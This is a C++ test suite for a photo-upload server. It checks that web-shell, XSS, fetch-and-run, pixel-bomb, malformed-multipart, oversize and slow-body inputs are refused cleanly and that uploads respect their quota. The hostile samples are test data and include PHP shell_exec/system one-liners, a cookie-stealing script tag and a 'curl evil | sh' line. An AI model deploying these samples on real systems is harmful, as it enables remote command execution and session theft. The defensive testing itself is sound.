// Uploads through a real socket (the whole server: guard, router, session, CSRF, handler, queue,
// worker), with every hostile class of the compressor tests (tests/imaging/hostile_test.cpp)
// and the hostile framings a client can send: oversize bodies, broken multipart, many parts,
// huge field names, slow bodies, and a burst of 100 uploads from one student while another
// student's requests must stay fast. Never a 5xx, never a crash, always a JSON error.
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <functional>
#include <future>
#include <thread>

#include "http/raw_client.h"
#include "http/server.h"
#include "imaging/compressor.h"
#include "imaging/fixtures.h"
#include "jobs/pipeline_fixture.h"
#include "support/testapp.h"
#include "web/app_router.h"

using namespace sy;
using J = nlohmann::json;
using test::RawClient;
using test::RawResponse;

namespace {

struct Session {
  std::string cookie, csrf;
};

std::string multipart_body(const std::string& boundary, const std::string& photo, const std::string& quote = "") {
  std::string b = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"x.jpg\"\r\n" +
                  "Content-Type: image/jpeg\r\n\r\n" + photo + "\r\n";
  if (!quote.empty())
    b += "--" + boundary + "\r\nContent-Disposition: form-data; name=\"quote\"\r\n\r\n" + quote + "\r\n";
  return b + "--" + boundary + "--\r\n";
}

class UploadHttp : public test::PipelineFixture {
 protected:
  http::Router router;
  std::unique_ptr<http::Server> server;
  int port = 0;
  int next_student = 0;

  static void SetUpTestSuite() { imaging::init(); }

  void SetUp() override {
    PipelineFixture::SetUp();
    web::build_router(router, *app);
    http::ServerOptions o;
    o.port = 0;
    o.threads = 2;
    o.max_body_bytes = app->config.max_upload_bytes + 64 * 1024;  // as `serve` sets it
    o.read_timeout = std::chrono::seconds(5);
    o.access_log = nullptr;
    o.metrics = nullptr;
    server = std::make_unique<http::Server>(router, o);
    server->start();
    port = server->port();
  }
  void TearDown() override {
    if (server) server->stop();
  }

  RawResponse send(const std::string& request, int timeout_ms = 20000) {
    RawClient c(port, timeout_ms);
    EXPECT_TRUE(c.send(request));
    auto r = c.read_response();
    if (!r) {
      ADD_FAILURE() << "no response to " << request.substr(0, 120);
      return RawResponse{};
    }
    return *r;
  }

  Session login(const std::string& username) {
    std::string body = J{{"username", username}, {"password", "correct horse battery"}}.dump();
    auto r = send("POST /api/v1/session HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\nContent-Length: " +
                  std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
    EXPECT_EQ(r.status, 200) << r.body;
    auto sc = r.header("set-cookie");
    return Session{sc.substr(0, sc.find(';')), J::parse(r.body)["csrf_token"].get<std::string>()};
  }

  // A new student (each has their own upload quota), logged in over HTTP.
  Session new_student() {
    std::string name = "student" + std::to_string(++next_student);
    test::make_user(*app, name, "student");
    return login(name);
  }

  static std::string upload_request(const Session& s, const std::string& body, const std::string& content_type,
                                    const std::string& extra = "") {
    return "POST /api/v1/me/photo HTTP/1.1\r\nHost: t\r\nCookie: " + s.cookie + "\r\nX-CSRF-Token: " + s.csrf +
           "\r\nContent-Type: " + content_type + "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n" + extra +
           "Connection: close\r\n\r\n" + body;
  }
  RawResponse upload(const Session& s, const std::string& photo) {
    return send(upload_request(s, multipart_body("Bnd42", photo), "multipart/form-data; boundary=Bnd42"));
  }
  RawResponse get(const Session& s, const std::string& target) {
    return send("GET " + target + " HTTP/1.1\r\nHost: t\r\nCookie: " + s.cookie + "\r\nConnection: close\r\n\r\n");
  }

  // Every error is the JSON error of CONTRACT.md.
  static std::string error_code(const RawResponse& r) {
    auto j = J::parse(r.body, nullptr, false);
    if (j.is_discarded() || !j.contains("error")) return "<not a JSON error: " + r.body.substr(0, 80) + ">";
    return j["error"]["code"].get<std::string>();
  }

  // Runs the queued jobs; returns the photo's final status and error reason.
  std::pair<std::string, std::string> process(const Session& s, std::int64_t photo_id) {
    jobs::Processor p(*app->db, *app->store, fast_options(1), "upload-http");
    drain(p);
    auto r = get(s, "/api/v1/photos/" + std::to_string(photo_id));
    EXPECT_EQ(r.status, 200) << r.body;
    auto j = J::parse(r.body);
    return {j.value("status", ""), j["error"].is_null() ? "" : j["error"].dump()};
  }

  void expect_alive() {
    auto r = send("GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n");
    EXPECT_EQ(r.status, 200);
  }
};

std::string tiff_of(const vips::VImage& im) {
  VipsBlob* b = im.tiffsave_buffer();
  std::size_t n = 0;
  const void* d = vips_blob_get(b, &n);
  std::string out(static_cast<const char*>(d), n);
  vips_area_unref(VIPS_AREA(b));
  return out;
}

}  // namespace

TEST_F(UploadHttp, NonImagesAreRefusedAtTheDoor) {
  auto s = new_student();
  std::string noise_bytes;
  for (int i = 0; i < 4096; ++i) noise_bytes.push_back(static_cast<char>((i * 7919 + 13) % 251));
  const std::vector<std::string> inputs = {
      "<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
      "<?php echo shell_exec($_GET['cmd']); ?>",
      "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
      "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
      "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n",
      "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/x.jpg)'\npop graphic-context\n",
      std::string("PK\x03\x04\x14\0\0\0\x08\0", 10) + std::string(200, 'z'),
      std::string("BM\x3A\0\0\0\0\0\0\0\x36\0\0\0", 14) + std::string(100, '\0'),
      "#!/bin/sh\ncurl evil | sh\n",
      noise_bytes,
      tiff_of(fixtures::quadrants(32, 32)),
  };
  for (const auto& in : inputs) {
    auto r = upload(s, in);
    EXPECT_EQ(r.status, 415) << in.substr(0, 40) << ": " << r.body;
    EXPECT_EQ(error_code(r), "unsupported_type");
  }
  auto empty = upload(s, "");
  EXPECT_EQ(empty.status, 422);
  EXPECT_EQ(error_code(empty), "invalid_image");
  expect_alive();
}

TEST_F(UploadHttp, PixelBombsAreRefusedBeforeDecoding) {
  auto s = new_student();
  using namespace fixtures;
  // Claimed sizes from the header: refused on upload, nothing stored, nothing queued.
  for (const auto& in :
       {set_jpeg_size(jpeg(quadrants(64, 48)), 65535, 65535),
        set_jpeg_size(jpeg(quadrants(64, 48), 90, true), 65535, 65535),
        set_png_size(png(quadrants(64, 48)), 65535, 65535), set_gif_size(gif({quadrants(64, 48)}), 65535, 65535)}) {
    auto t0 = std::chrono::steady_clock::now();
    auto r = upload(s, in);
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(error_code(r), "invalid_image");
    EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(5)) << "a bomb must be refused cheaply";
  }
  // A 17 KB one-bit PNG that decodes to 144 MP.
  VipsBlob* b = vips::VImage::black(12000, 12000)
                    .pngsave_buffer(vips::VImage::option()->set("bitdepth", 1)->set("compression", 9));
  std::size_t n = 0;
  const void* d = vips_blob_get(b, &n);
  std::string bomb(static_cast<const char*>(d), n);
  vips_area_unref(VIPS_AREA(b));
  auto r = upload(s, bomb);
  EXPECT_EQ(r.status, 422) << r.body;
  EXPECT_TRUE(app->store->list("uploads/").empty()) << "a refused upload must store nothing";
  expect_alive();
}

TEST_F(UploadHttp, DecodeTimeFailuresEndAsFailedPhotosNeverAsCrashes) {
  using namespace fixtures;
  auto n = noise(600, 400);
  // Progressive JPEG whose coefficient buffer would exceed the decode budget; truncated files of
  // every format; a JPEG with a bare SOI. Accepted (the header is plausible), then failed by the
  // worker with a reason; the server and the worker live on.
  std::vector<std::string> inputs = {set_jpeg_size(jpeg(noise(256, 256), 90, true), 10000, 10000)};
  for (const auto& in : {jpeg(n), jpeg(n, 90, true), png(n), webp(n), heif(n, false), heif(n, true), gif({n})})
    inputs.push_back(in.substr(0, in.size() / 2));
  inputs.push_back(std::string("\xFF\xD8\xFF\xE0", 4) + std::string(500, 'A'));
  for (const auto& in : inputs) {
    auto s = new_student();
    auto r = upload(s, in);
    if (r.status == 422) continue;  // refused from the header already: also fine
    ASSERT_EQ(r.status, 202) << r.body;
    auto [status, error] = process(s, J::parse(r.body)["photo_id"].get<std::int64_t>());
    EXPECT_EQ(status, "failed") << error;
    EXPECT_FALSE(error.empty());
  }
  expect_alive();
}

TEST_F(UploadHttp, ScriptsInsideImagesDoNotSurvive) {
  using namespace fixtures;
  auto s = new_student();
  std::string in = with_comment(jpeg(quadrants(120, 90)), "<script>alert(document.cookie)</script>") +
                   "<html><?php system($_GET['c']); ?></html>";
  auto r = upload(s, in);
  ASSERT_EQ(r.status, 202) << r.body;
  auto id = J::parse(r.body)["photo_id"].get<std::int64_t>();
  EXPECT_EQ(process(s, id).first, "ready");
  for (const char* v : {"jpeg", "webp", "thumb"}) {
    auto img = get(s, "/api/v1/photos/" + std::to_string(id) + "/" + v);
    ASSERT_EQ(img.status, 200) << v;
    EXPECT_TRUE(img.header("content-type").rfind("image/", 0) == 0);
    EXPECT_EQ(img.header("x-content-type-options"), "nosniff");
    EXPECT_FALSE(contains(img.body, "<script"));
    EXPECT_FALSE(contains(img.body, "<?php"));
  }
}

TEST_F(UploadHttp, MutatedImagesNeverCrashTheServer) {
  using namespace fixtures;
  auto q = quadrants(96, 64);
  std::vector<std::string> seeds = {jpeg(q), jpeg(q, 80, true), png(q), webp(q), gif({q, q}), heif(q, false)};
  unsigned state = 4242;
  auto next = [&] { return state = state * 1103515245u + 12345u; };
  for (const auto& seed : seeds) {
    auto s = new_student();
    for (int i = 0; i < 3; ++i) {
      std::string m = seed;
      for (int k = 0, flips = 1 + static_cast<int>(next() % 8); k < flips; ++k)
        m[next() % m.size()] = static_cast<char>(next() >> 16);
      auto r = upload(s, m);
      EXPECT_TRUE(r.status == 202 || r.status == 415 || r.status == 422) << r.status << " " << r.body;
      if (r.status == 202) {
        auto st = process(s, J::parse(r.body)["photo_id"].get<std::int64_t>()).first;
        EXPECT_TRUE(st == "ready" || st == "failed") << st;
      }
    }
  }
  expect_alive();
}

TEST_F(UploadHttp, OversizeBodiesAre413BeforeTheyAreRead) {
  auto s = new_student();
  // Declared too large: answered without waiting for a byte of the body.
  auto r = send("POST /api/v1/me/photo HTTP/1.1\r\nHost: t\r\nCookie: " + s.cookie + "\r\nX-CSRF-Token: " + s.csrf +
                    "\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 900000000\r\n\r\n",
                5000);
  EXPECT_EQ(r.status, 413);
  EXPECT_EQ(error_code(r), "payload_too_large");
  // Really sent, one byte over the photo limit inside valid framing.
  std::string big = fixtures::jpeg(fixtures::quadrants(64, 48));
  big.resize(static_cast<std::size_t>(app->config.max_upload_bytes) + 1, '\0');
  r = upload(s, big);
  EXPECT_EQ(r.status, 413) << r.body;
  // Chunked, growing past the server's limit.
  RawClient c(port, 20000);
  ASSERT_TRUE(c.send("POST /api/v1/me/photo HTTP/1.1\r\nHost: t\r\nCookie: " + s.cookie +
                     "\r\nX-CSRF-Token: " + s.csrf +
                     "\r\nContent-Type: multipart/form-data; boundary=B\r\nTransfer-Encoding: chunked\r\n\r\n"));
  std::string chunk(1 << 20, 'x');
  char sz[32];
  std::snprintf(sz, sizeof sz, "%zx\r\n", chunk.size());
  for (int i = 0; i < 12 && c.send(sz + chunk + "\r\n"); ++i) {}
  auto rc = c.read_response();
  ASSERT_TRUE(rc.has_value());
  EXPECT_EQ(rc->status, 413);
  expect_alive();
}

TEST_F(UploadHttp, BrokenMultipartFramingIsAClear400) {
  auto s = new_student();
  std::string img = fixtures::jpeg(fixtures::quadrants(32, 32));
  struct Case {
    const char* what;
    std::string body, type;
  };
  std::vector<Case> cases = {
      {"no boundary parameter", multipart_body("Bnd", img), "multipart/form-data"},
      {"boundary not in the body", multipart_body("Other", img), "multipart/form-data; boundary=Bnd"},
      {"no closing boundary", multipart_body("Bnd", img).substr(0, multipart_body("Bnd", img).size() - 10),
       "multipart/form-data; boundary=Bnd"},
      {"part without headers", "--Bnd\r\n\r\n" + img + "\r\n--Bnd--\r\n", "multipart/form-data; boundary=Bnd"},
      {"header line without colon", "--Bnd\r\nContent-Disposition form-data; name=\"photo\"\r\n\r\nx\r\n--Bnd--\r\n",
       "multipart/form-data; boundary=Bnd"},
      {"unterminated part headers", "--Bnd\r\nContent-Disposition: form-data; name=\"photo\"",
       "multipart/form-data; boundary=Bnd"},
      {"no photo part", "--Bnd\r\nContent-Disposition: form-data; name=\"quote\"\r\n\r\nhi\r\n--Bnd--\r\n",
       "multipart/form-data; boundary=Bnd"},
      {"bare LF framing", "--Bnd\nContent-Disposition: form-data; name=\"photo\"\n\n" + img + "\n--Bnd--\n",
       "multipart/form-data; boundary=Bnd"},
      {"not multipart at all", img, "image/jpeg"},
      {"boundary of 300 characters", multipart_body(std::string(300, 'b'), img),
       "multipart/form-data; boundary=" + std::string(300, 'b')},
  };
  for (const auto& c : cases) {
    auto r = send(upload_request(s, c.body, c.type));
    EXPECT_TRUE(r.status >= 400 && r.status < 500) << c.what << ": " << r.status << " " << r.body;
    EXPECT_EQ(error_code(r).find("<not"), std::string::npos) << c.what << ": " << r.body;
  }
  EXPECT_TRUE(app->store->list("uploads/").empty());
  expect_alive();
}

TEST_F(UploadHttp, ManyPartsAndHugeFieldNamesAreRefusedCheaply) {
  auto s = new_student();
  std::string img = fixtures::jpeg(fixtures::quadrants(32, 32));
  std::string many;
  for (int i = 0; i < 50000; ++i)
    many += "--Bnd\r\nContent-Disposition: form-data; name=\"f" + std::to_string(i) + "\"\r\n\r\nx\r\n";
  many +=
      "--Bnd\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.jpg\"\r\n\r\n" + img + "\r\n--Bnd--\r\n";
  std::string huge_name =
      "--Bnd\r\nContent-Disposition: form-data; name=\"" + std::string(4 << 20, 'n') + "\"\r\n\r\nx\r\n" +
      "--Bnd\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.jpg\"\r\n\r\n" + img + "\r\n--Bnd--\r\n";
  std::string huge_header = "--Bnd\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.jpg\"\r\nX-Pad: " +
                            std::string(4 << 20, 'p') + "\r\n\r\n" + img + "\r\n--Bnd--\r\n";
  for (const auto& [what, body] : std::vector<std::pair<std::string, std::string>>{
           {"50000 parts", many}, {"a 4 MB field name", huge_name}, {"a 4 MB part header", huge_header}}) {
    auto t0 = std::chrono::steady_clock::now();
    auto r = send(upload_request(s, body, "multipart/form-data; boundary=Bnd"));
    auto took = std::chrono::steady_clock::now() - t0;
    EXPECT_TRUE(r.status == 400 || r.status == 413 || r.status == 431) << what << ": " << r.status << " " << r.body;
    EXPECT_LT(took, std::chrono::seconds(10)) << what << " must be refused, not parsed for ages";
  }
  expect_alive();
}

TEST_F(UploadHttp, SlowBodiesDoNotHoldUpOtherUsers) {
  auto slow = new_student();
  auto other = new_student();
  auto timed_me = [&] {
    auto t0 = std::chrono::steady_clock::now();
    auto r = get(other, "/api/v1/me");
    EXPECT_EQ(r.status, 200);
    return std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
  };
  std::vector<double> base;
  for (int i = 0; i < 15; ++i) base.push_back(timed_me());
  // More slow uploads than the server has threads, each trickling a byte at a time.
  std::atomic<bool> stop{false};
  std::vector<std::thread> trickle;
  for (int i = 0; i < 6; ++i)
    trickle.emplace_back([&] {
      RawClient c(port, 10000);
      std::string body = multipart_body("Bnd", fixtures::jpeg(fixtures::quadrants(32, 32)));
      if (!c.send(upload_request(slow, body, "multipart/form-data; boundary=Bnd").substr(0, 400))) return;
      for (int k = 0; k < 40 && !stop; ++k) {
        if (!c.send("x")) return;
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
      }
    });
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  std::vector<double> during;
  for (int i = 0; i < 15; ++i) during.push_back(timed_me());
  stop = true;
  for (auto& t : trickle) t.join();
  std::sort(base.begin(), base.end());
  std::sort(during.begin(), during.end());
  double b = std::max(base[base.size() / 2], 0.5), d = during[during.size() / 2];
  EXPECT_LT(d, 20 * b) << "median /me latency " << d << " ms while slow bodies trickle, baseline " << b << " ms";

  // A body that stops arriving is cut off at the read deadline (5 s here), not held for ever.
  RawClient stalled(port, 20000);
  std::string body = multipart_body("Bnd", fixtures::jpeg(fixtures::quadrants(32, 32)));
  ASSERT_TRUE(stalled.send(upload_request(slow, body, "multipart/form-data; boundary=Bnd").substr(0, 400)));
  auto t0 = std::chrono::steady_clock::now();
  EXPECT_TRUE(stalled.closed_by_peer()) << "the server kept a stalled upload open for 20 s";
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(15));
}

namespace {

struct BurstResult {
  int accepted = 0, limited = 0, other = 0;
  double base_ms = 0, during_ms = 0;  // medians of another student's GET /api/v1/me
};

// 100 uploads of one student from 4 connections at once, while another student times /me.
BurstResult burst(UploadHttp& t, const Session& burst_user, const Session& other,
                  const std::function<RawResponse(const Session&, const std::string&)>& upload,
                  const std::function<RawResponse(const Session&, const std::string&)>& get) {
  auto timed_me = [&] {
    auto t0 = std::chrono::steady_clock::now();
    auto r = get(other, "/api/v1/me");
    EXPECT_EQ(r.status, 200);
    return std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
  };
  std::vector<double> base, during;
  for (int i = 0; i < 15; ++i) base.push_back(timed_me());
  std::string img = fixtures::jpeg(fixtures::noise(200, 150));
  std::atomic<int> accepted{0}, limited{0}, other_status{0}, next{0};
  std::vector<std::thread> senders;
  for (int k = 0; k < 4; ++k)
    senders.emplace_back([&] {
      while (next++ < 100) {
        auto r = upload(burst_user, img);
        auto j = J::parse(r.body, nullptr, false);
        if (r.status == 202)
          ++accepted;
        else if (r.status == 429 && !j.is_discarded() && j["error"]["code"] == "too_many_uploads")
          ++limited;
        else
          ++other_status;
      }
    });
  for (int i = 0; i < 15; ++i) during.push_back(timed_me());
  for (auto& s : senders) s.join();
  std::sort(base.begin(), base.end());
  std::sort(during.begin(), during.end());
  (void)t;
  return {accepted, limited, other_status, std::max(base[base.size() / 2], 0.5), during[during.size() / 2]};
}

}  // namespace

TEST_F(UploadHttp, BurstOf100UploadsHitsTheQuotaAndOthersStayFast) {
  auto b = burst(
      *this, new_student(), new_student(), [this](const Session& s, const std::string& img) { return upload(s, img); },
      [this](const Session& s, const std::string& target) { return get(s, target); });
  EXPECT_EQ(b.accepted + b.limited + b.other, 100);
  EXPECT_EQ(b.other, 0);
  EXPECT_GE(b.accepted, services::kMaxUploadsPerHour);
  EXPECT_GT(b.limited, 100 - 2 * services::kMaxUploadsPerHour) << "429 after the quota";
  // Another student's requests stay fast: compared with their own baseline in this run, with a
  // generous ratio (a timing assertion, not a benchmark; 2 shared cores).
  EXPECT_LT(b.during_ms, 20 * b.base_ms) << "median /me latency " << b.during_ms << " ms during the burst, baseline "
                                         << b.base_ms << " ms";
}

// Exactly the quota, never one more, under concurrent uploads: the count runs inside the insert's
// transaction (services/photos.cpp upload_photo). Before that, concurrent uploads raced past the
// limit (seen: 21 of 20).
TEST_F(UploadHttp, QuotaHoldsExactlyUnderConcurrentUploads) {
  for (int round = 0; round < 3; ++round) {
    auto b = burst(
        *this, new_student(), new_student(),
        [this](const Session& s, const std::string& img) { return upload(s, img); },
        [this](const Session& s, const std::string& target) { return get(s, target); });
    EXPECT_EQ(b.accepted, services::kMaxUploadsPerHour);
    EXPECT_EQ(b.limited, 100 - services::kMaxUploadsPerHour);
  }
}
